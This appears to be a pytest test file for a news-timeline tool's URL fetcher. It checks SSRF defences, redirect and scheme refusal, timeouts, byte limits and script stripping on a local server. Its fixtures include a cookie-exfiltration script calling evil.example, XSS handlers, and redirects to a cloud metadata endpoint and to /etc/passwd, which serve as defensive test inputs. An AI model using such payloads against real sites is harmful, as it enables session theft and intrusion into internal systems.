"""Fetching a URL: only public http(s) HTML, within a timeout and a byte limit.

Every test talks to a local http.server on 127.0.0.1, never to the internet.
"""
from __future__ import annotations

import http.server
import socket
import threading
import time

import pytest

from timeline import fetch
from timeline.errors import InputError

ARTICLE = """<html><head><title>Putin di Pyongyang</title>
<meta property="article:published_time" content="2024-06-20T08:00:00+07:00"></head>
<body><article><h1>Putin di Pyongyang</h1>
<p>Presiden Rusia Vladimir Putin tiba di Pyongyang pada 19 Juni 2024 untuk kunjungan kenegaraan.</p>
<p>Kim Jong Un menyambutnya di bandara, dan keduanya menandatangani perjanjian kemitraan strategis.</p>
</article></body></html>"""
SCRIPTED = """<html><head><title>Kim di Moskow</title><style>p { color: red }</style>
<script>alert(document.cookie)</script></head><body><nav>Beranda | Politik</nav><article>
<p>Pemimpin Korea Utara Kim Jong Un tiba di Moskow pada 12 September 2023 untuk bertemu Putin.</p>
<script>fetch('http://evil.example/?c=' + document.cookie)</script><noscript>aktifkan JavaScript</noscript>
<p>Kedua pemimpin membahas kerja sama militer dan ekonomi di kosmodrom Vostochny.</p>
<img src=x onerror="alert(1)"></article></body></html>"""
DRIP = 0.2  # seconds between the bytes of the dripping pages (100 bytes: 20 s in all)
BIG = "<html><body><article>" + "<p>Putin bertemu Kim pada 19 Juni 2024 di Pyongyang.</p>" * 2000 + "</article></body></html>"


class Pages(http.server.BaseHTTPRequestHandler):
    """Fixture pages by path."""

    def log_message(self, *args) -> None:  # keep the test output clean
        pass

    def _send(self, status: int, body: bytes, kind: str = "text/html; charset=utf-8", length: bool = True,
              **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        if length:
            self.send_header("Content-Length", str(len(body)))
        for k, v in headers.items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def _drip(self, headers_too: bool) -> None:
        """Send one byte every DRIP seconds: never idle long enough for a socket timeout."""
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\n"
        body = ARTICLE.encode()[:100]
        try:
            if not headers_too:
                self.wfile.write(head)
            for byte in (head if headers_too else b"") + body:
                self.wfile.write(bytes([byte]))
                self.wfile.flush()
                time.sleep(DRIP)
        except OSError:  # the client gave up: as it should
            pass
        self.close_connection = True

    def do_GET(self) -> None:
        path = self.path
        if path == "/berita/putin-di-pyongyang":
            self._send(200, ARTICLE.encode())
        elif path == "/scripted.html":
            self._send(200, SCRIPTED.encode())
        elif path == "/cp1252.html":
            self._send(200, ARTICLE.replace("tiba", "\u201ctiba\u201d").encode("cp1252"), "text/html")
        elif path == "/big.html":
            self._send(200, BIG.encode())
        elif path == "/big-unannounced.html":
            self.close_connection = True
            self._send(200, BIG.encode(), length=False)
        elif path == "/report.pdf":
            self._send(200, b"%PDF-1.4\n", "application/pdf")
        elif path == "/to-metadata":
            self._send(302, b"", Location="http://169.254.169.254/latest/meta-data/")
        elif path == "/to-file":
            self._send(302, b"", Location="file:///etc/passwd")
        elif path == "/to-ftp":
            self._send(302, b"", Location="ftp://127.0.0.1/berita.html")
        elif path == "/to-article":
            self._send(301, b"", Location="/berita/putin-di-pyongyang")
        elif path == "/slow.html":
            time.sleep(2)
            self._send(200, ARTICLE.encode())
        elif path in ("/drip.html", "/drip-headers.html"):
            self._drip(path == "/drip-headers.html")
        else:
            self._send(404, b"<html><body>Not here</body></html>")


@pytest.fixture(scope="module")
def server():
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pages)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(autouse=True)
def no_proxy_from_the_developer(monkeypatch):
    """The tests talk to 127.0.0.1 directly, whatever proxy the machine's environment names."""
    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.upper(), raising=False)


@pytest.fixture
def allow_local(monkeypatch):
    monkeypatch.setenv(fetch.ALLOW_PRIVATE_ENV, "1")


@pytest.fixture
def loopback_is_public(monkeypatch):
    """Treat the test server's 127.0.0.1 as public, so redirects onward can be checked."""
    real = fetch._forbidden
    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
    monkeypatch.setattr(fetch, "_forbidden", lambda address: address != "127.0.0.1" and real(address))


def test_a_normal_page_gives_its_text_title_and_date(server, allow_local):
    art = fetch.fetch_article(server + "/berita/putin-di-pyongyang")
    assert "19 Juni 2024" in art.text and "<" not in art.text
    assert art.title == "Putin di Pyongyang"
    assert art.published is not None and art.published.isoformat() == "2024-06-20"
    assert art.url == server + "/berita/putin-di-pyongyang"
    assert art.source == "putin-di-pyongyang.html"


def test_scripts_styles_and_handlers_never_reach_the_text(server, allow_local):
    art = fetch.fetch_article(server + "/scripted.html")
    assert "12 September 2023" in art.text
    for leaked in ("alert", "document.cookie", "color: red", "onerror", "<script", "evil.example"):
        assert leaked not in art.text


def test_a_page_in_cp1252_without_a_charset_decodes(server, allow_local):
    assert "\u201ctiba\u201d" in fetch.fetch_article(server + "/cp1252.html").text


def test_redirects_inside_the_allowed_space_are_followed(server, allow_local):
    assert "19 Juni 2024" in fetch.fetch_article(server + "/to-article").text


@pytest.mark.parametrize("path", ["/big.html", "/big-unannounced.html"])
def test_a_page_over_the_byte_limit_is_refused(server, allow_local, monkeypatch, path):
    monkeypatch.setattr(fetch, "MAX_BYTES", 20_000)
    with pytest.raises(InputError) as exc:
        fetch.fetch_article(server + path)
    assert exc.value.source == server + path and "20,000" in exc.value.problem


def test_loopback_is_refused_unless_allowed(server, monkeypatch):
    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
    with pytest.raises(InputError, match=r"private or local address \(127\.0\.0\.1\).*TIMELINE_ALLOW_PRIVATE_URLS"):
        fetch.fetch_article(server + "/berita/putin-di-pyongyang")
    assert fetch.fetch_article(server + "/berita/putin-di-pyongyang", allow_private=True).text


@pytest.mark.parametrize("address", ["10.1.2.3", "192.168.0.1", "172.16.5.4", "169.254.169.254", "127.0.0.1",
                                     "::1", "fe80::1", "fc00::1", "0.0.0.0", "100.64.0.1", "224.0.0.1",
                                     "::ffff:10.0.0.1", "240.0.0.1"])
def test_private_and_reserved_addresses_are_forbidden(address):
    assert fetch._forbidden(address)


@pytest.mark.parametrize("address", ["93.184.215.14", "8.8.8.8", "2606:4700:4700::1111"])
def test_public_addresses_are_not(address):
    assert not fetch._forbidden(address)


def test_a_redirect_to_a_private_address_is_refused(server, loopback_is_public):
    with pytest.raises(InputError) as exc:
        fetch.fetch_article(server + "/to-metadata")
    assert "redirects to http://169.254.169.254/latest/meta-data/" in exc.value.problem
    assert "private or local address" in exc.value.problem


@pytest.mark.parametrize(("path", "target"), [("/to-file", "file:///etc/passwd"),
                                              ("/to-ftp", "ftp://127.0.0.1/berita.html")])
def test_a_redirect_to_another_scheme_is_refused(server, loopback_is_public, path, target):
    with pytest.raises(InputError) as exc:
        fetch.fetch_article(server + path)
    assert target in exc.value.problem
    assert "only http:// and https://" in exc.value.problem or "is not allowed" in exc.value.problem


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.com/a.html", "javascript:alert(1)",
                                 "data:text/html,<p>x</p>", "gopher://example.com/", "http://", "berita.html"])
def test_other_schemes_are_refused(url):
    with pytest.raises(InputError, match="only http:// and https://"):
        fetch.fetch_article(url, allow_private=True)


def test_a_404_is_reported(server, allow_local):
    with pytest.raises(InputError, match="HTTP 404"):
        fetch.fetch_article(server + "/gone.html")


def test_a_non_html_page_is_refused(server, allow_local):
    with pytest.raises(InputError, match=r"not an HTML page \(Content-Type application/pdf\)"):
        fetch.fetch_article(server + "/report.pdf")


def test_a_slow_server_times_out_with_a_message(server, allow_local, monkeypatch):
    monkeypatch.setattr(fetch, "TIMEOUT", 0.3)
    with pytest.raises(InputError, match="could not be fetched"):
        fetch.fetch_article(server + "/slow.html")


def test_an_unknown_host_is_reported(monkeypatch):
    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
    with pytest.raises(InputError, match="not found"):
        fetch.fetch_article("http://no-such-host.invalid/berita")


@pytest.mark.parametrize("path", ["/drip.html", "/drip-headers.html"])
def test_fetch_deadline_holds_against_a_dripping_server(server, allow_local, monkeypatch, path):
    monkeypatch.setattr(fetch, "TIMEOUT", 1.0)  # each byte comes well within it; the whole page never does
    start = time.monotonic()
    with pytest.raises(InputError, match=r"could not be fetched within the 1-second limit"):
        fetch.fetch_article(server + path)
    assert time.monotonic() - start < 3.0  # the page takes 20 s (28 s with its headers) to drip


class Proxy(http.server.BaseHTTPRequestHandler):
    """A forward proxy that answers every request itself and remembers what it was asked."""

    asked: list[str] = []

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:
        Proxy.asked.append(self.path)
        body = ARTICLE.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def proxy(monkeypatch):
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    Proxy.asked = []
    monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{httpd.server_address[1]}")
    yield Proxy.asked
    httpd.shutdown()
    httpd.server_close()


def test_fetch_honours_proxy_settings_from_the_environment(proxy, server, monkeypatch):
    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
    resolve = socket.getaddrinfo
    sites = {"news.example": "93.184.215.14", "intranet.example": "10.0.0.5"}  # never connected to

    def dns(host, *args, **kwargs):
        if host in sites:
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (sites[host], 80))]
        return resolve(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", dns)
    art = fetch.fetch_article("http://news.example/berita/putin")
    # The proxy (on 127.0.0.1) was asked; its local address is not the site's, so it is no refusal.
    assert proxy == ["http://news.example/berita/putin"] and "19 Juni 2024" in art.text
    with pytest.raises(InputError, match=r"private or local address \(10\.0\.0\.5\)"):
        fetch.fetch_article("http://intranet.example/")  # the site's own address is still checked
    # no_proxy sends the test server's address past the proxy, as urllib reads it.
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    assert "19 Juni 2024" in fetch.fetch_article(server + "/berita/putin-di-pyongyang", allow_private=True).text
    assert len(proxy) == 1


@pytest.mark.parametrize("address", ["::127.0.0.1", "::10.0.0.1", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
                                     "64:ff9b::127.0.0.1", "64:ff9b::a9fe:a9fe", "64:ff9b:1::808:808",
                                     "2002:7f00:1::", "2002:a00:1::1", "2002:a9fe:a9fe::",
                                     "2001:0:4136:e378:8000:63bf:3fff:fdd2"])
def test_ipv6_embeddings_of_internal_ipv4_are_forbidden(address):
    assert fetch._forbidden(address)


@pytest.mark.parametrize("address", ["64:ff9b::808:808", "2002:808:808::1", "::ffff:8.8.8.8"])
def test_ipv6_embeddings_of_public_ipv4_are_not(address):
    assert not fetch._forbidden(address)


def test_a_url_naming_an_embedded_loopback_is_refused(monkeypatch):
    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
    with pytest.raises(InputError, match=r"private or local address \(::127\.0\.0\.1\)"):
        fetch.fetch_article("http://[::127.0.0.1]/berita")
